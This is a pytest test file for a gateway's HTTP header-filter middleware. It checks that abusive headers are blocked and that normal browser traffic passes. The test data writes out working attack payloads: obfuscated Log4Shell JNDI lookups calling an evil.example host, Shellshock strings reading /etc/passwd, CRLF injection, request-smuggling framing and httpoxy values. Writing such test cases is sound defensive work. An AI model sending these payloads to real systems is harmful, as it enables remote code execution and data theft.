from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway_app.middleware.header_filter import HeaderFilter
from gateway_app.middleware.suspicious_fields import (
    PRESETS,
    may_be_suspicious,
    may_be_suspicious_names,
)
from gateway_app.problem import GatewayError

Make = Callable[..., Any]
Field = tuple[bytes, bytes]

BROWSER = [
    (b"host", b"api.example.com"),
    (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"),
    (b"accept", b"text/html,application/xhtml+xml,*/*;q=0.8"),
    (b"cookie", b"session=abc; theme=dark; price=$5; json=%7B%22a%22%3A1%7D"),
    (b"x-data", b'{"plan": "pro", "call()": {"$ref": "#"}}'),
    (b"if-none-match", b'W/"abc"'),
]

ABUSE: dict[str, list[tuple[str, list[Field]]]] = {
    "httpoxy": [("Proxy", [(b"proxy", b"http://evil.example:8080")])],
    "url_override": [
        (name.decode(), [(name, b"/admin")])
        for name in (
            *(b"x-original-url", b"x-rewrite-url", b"x-override-url", b"x-original-uri"),
            *(b"x_original_url", b"x-rewrite_url"),  # the same to a WSGI, CGI or PHP backend
        )
    ]
    + [("Next.js", [(b"x-middleware-subrequest", b"middleware")])],
    "framing": [
        ("two lengths", [(b"content-length", b"3"), (b"content-length", b"4")]),
        ("a length twice", [(b"content-length", b"3"), (b"content-length", b"3")]),
        ("length and coding", [(b"content-length", b"3"), (b"transfer-encoding", b"chunked")]),
        ("an unknown coding", [(b"transfer-encoding", b"xchunked")]),
        ("two codings", [(b"transfer-encoding", b"chunked"), (b"transfer-encoding", b"identity")]),
        ("two hosts", [(b"host", b"evil.example")]),
        ("an underscore", [(b"content_length", b"3")]),
        ("an address with an underscore", [(b"x_forwarded_for", b"127.0.0.1")]),
    ],
    "control_characters": [
        ("a line break", [(b"x-a", b"1\r\nx-admin: 1")]),
        ("a bare line feed", [(b"x-a", b"1\n2")]),
        ("NUL", [(b"x-a", b"a\0b")]),
        ("DEL", [(b"x-a", b"a\x7f")]),
        ("a space in a name", [(b"x a", b"1")]),
        ("a colon in a name", [(b"x:a", b"1")]),
        ("an empty name", [(b"", b"1")]),
    ],
    "connection": [
        ("names authorization", [(b"connection", b"close, Authorization")]),
        ("names what proxies add", [(b"connection", b"X-Forwarded-For")]),
    ],
    "jndi": [
        (attack, [(b"user-agent", attack.encode())])
        for attack in (
            "${jndi:ldap://evil.example/a}",
            "x ${JNDI:dns://evil.example}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil.example}",
            "${${upper:j}ndi:rmi://evil.example}",
            "${jnd${upper:\N{LATIN SMALL LETTER DOTLESS I}}:ldap://evil.example/}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example}",
            "${${lower:${lower:${lower:j}}}ndi:ldap://evil.example}",
            "${ jndi:ldap://evil.example}",
            "${jndi:ldap://evil.example",
            "${" * 40 + "::-j" + "}" * 40 + "ndi",
        )
    ],
    "shellshock": [
        ("the known form", [(b"user-agent", b"() { :;}; /bin/cat /etc/passwd")]),
        ("more space", [(b"referer", b"( )\t{ _; } >_[$($())] { id; }")]),
    ],
    "oversized": [
        ("a long value", [(b"x-a", b"a" * 8193)]),
        ("a long name", [(b"x" * 8193, b"a")]),
        ("many fields", [(b"x-%d" % number, b"") for number in range(101)]),
    ],
}
CASES = [
    pytest.param(preset, fields, id=f"{preset}: {name[:40]}")
    for preset, attacks in ABUSE.items()
    for name, fields in attacks
]


@pytest.mark.parametrize(("preset", "fields"), CASES)
async def test_suspicious_blocks_each_known_abuse(gateway: Make, preset: str, fields: list[Field]) -> None:
    gate = gateway("header_filter", {"block": ["suspicious"]}, name="baseline")

    answer = await gate.get_with_fields(*fields)

    assert answer.status_code == 400
    assert answer.json()["cause"] == "blocked"
    assert "detail" not in answer.json()
    assert gate.backend.requests == []
    assert gate.edge.exchange.error == "blocked"
    assert gate.edge.exchange.error_detail
    assert gate.edge.exchange.refused_by == "baseline"


@pytest.mark.parametrize(("preset", "fields"), CASES)
async def test_each_preset_blocks_its_abuse_and_the_others_do_not(
    gateway: Make, preset: str, fields: list[Field]
) -> None:
    alone = gateway("header_filter", {"block": [preset]})
    others = gateway("header_filter", {"block": [name for name in PRESETS if name != preset]})

    assert (await alone.get_with_fields(*fields)).status_code == 400
    # One kind of abuse may be another one too: a list of codings, what no value may hold.
    overlap = preset in ("framing", "connection", "oversized")
    assert overlap or (await others.get_with_fields(*fields)).status_code == 200


async def test_what_browsers_send_passes(gateway: Make) -> None:
    gate = gateway("header_filter")
    gate.edge.exact_headers = BROWSER

    assert (await gate.request()).status_code == 200
    assert gate.backend.request["headers"] == BROWSER


@pytest.mark.parametrize(
    "value",
    [
        "${env:HOME}",
        "${date:yyyy}",
        "jndi:ldap",
        "$jndi:x",
        "{jndi:}",
        "${}",
        "function () x",
        "a ${b",
        "${lower:j}ndi:",
    ],
)
async def test_what_only_resembles_an_attack_passes(gateway: Make, value: str) -> None:
    gate = gateway("header_filter")

    assert (await gate.get_with_fields((b"x-template", value.encode()))).status_code == 200


FIELD = st.tuples(
    st.sampled_from([name for attacks in ABUSE.values() for _, fields in attacks for name, _ in fields[:2]])
    | st.binary(max_size=6),
    st.sampled_from([value for attacks in ABUSE.values() for _, fields in attacks for _, value in fields[:2]])
    | st.binary(max_size=12)
    | st.text("${}jndi:()- ", max_size=16).map(str.encode),
)


@given(st.lists(FIELD, max_size=8))
def test_the_quick_look_misses_nothing_that_a_rule_finds(fields: list[Field]) -> None:
    found = [rule(fields) for rules in PRESETS.values() for rule in rules]

    quick = may_be_suspicious_names([n for n, _ in fields]) or may_be_suspicious([v for _, v in fields])
    assert quick or not any(found)


@pytest.mark.parametrize(
    ("pattern", "field", "is_blocked"),
    [
        ("user-agent: *sqlmap*", (b"user-agent", b"SQLMap/1.7"), True),
        ("user-agent: *sqlmap*", (b"user-agent", b"curl/8"), False),
        ("user-agent: *sqlmap*", (b"referer", b"sqlmap"), False),
        ("User-Agent: curl/8", (b"user-agent", b"curl/8.1"), False),
        ("x-internal-*: *", (b"x-internal-user", b""), True),
        ("x-internal-*: *", (b"x-external", b"1"), False),
        ("referer: ~^http://[0-9]", (b"referer", b"http://10.0.0.1/"), True),
        ("referer: ~^http://[0-9]", (b"referer", b"see http://10.0.0.1/"), False),
        ("*: *<script*", (b"x-any", b"a<SCRIPT>"), True),
    ],
)
async def test_patterns_block_by_name_and_value(
    gateway: Make, pattern: str, field: Field, is_blocked: bool
) -> None:
    gate = gateway("header_filter", {"block": [pattern]})

    answer = await gate.get_with_fields(field)

    assert answer.status_code == (400 if is_blocked else 200)


async def test_fields_are_removed_in_both_directions(gateway: Make) -> None:
    gate = gateway("header_filter", {"remove_request": ["X-Debug"], "remove_response": ["Server"]})

    answer = await gate.get(headers={"x-debug": "1", "x-kept": "1"})

    assert gate.backend.values("x-debug") == []
    assert gate.backend.values("x-kept") == ["1"]
    assert "server" not in answer.headers
    assert answer.headers["content-type"] == "text/plain"


async def test_only_allowed_fields_pass_besides_what_the_message_needs(gateway: Make) -> None:
    gate = gateway("header_filter", {"allow_request": ["X-Kept"]})

    passed = [
        (b"content-length", b"0"),
        (b"content-type", b"a/b"),
        (b"x-forwarded-for", b"::1"),
        (b"x-kept", b"1"),
    ]

    await gate.get_with_fields(*passed, (b"x-more", b"1"))

    assert gate.backend.request["headers"] == [(b"host", b"api.example.com"), *passed]


async def test_a_websocket_handshake_is_filtered_too(gateway: Make) -> None:
    gate = gateway("header_filter")
    await gate.get()
    scope = {"type": "websocket", "headers": [(b"proxy", b"x")], "gateway": gate.edge.exchange}

    with pytest.raises(GatewayError, match="blocked"):
        await gate.middleware(scope, None, None)


async def test_a_request_without_fields_passes(gateway: Make) -> None:
    gate = gateway("header_filter")
    gate.edge.exact_headers = []

    assert (await gate.request()).status_code == 200


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"block": ["suspicous"]}, "did you mean 'suspicious'"),
        ({"block": ["user-agent:"]}, "no pattern"),
        ({"block": ["a b: c"]}, "no pattern"),
        ({"block": ["a: ~("]}, "no regular expression behind ~"),
        ({"remove_request": ["content-length"]}, "frames the message"),
        ({"allow_request": ["x y"]}, "no field name"),
    ],
)
def test_what_means_nothing_is_refused_at_load(gateway: Make, options: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        gateway("header_filter", options)


def test_the_class_is_what_the_registry_names(gateway: Make) -> None:
    assert isinstance(gateway("header_filter").middleware, HeaderFilter)
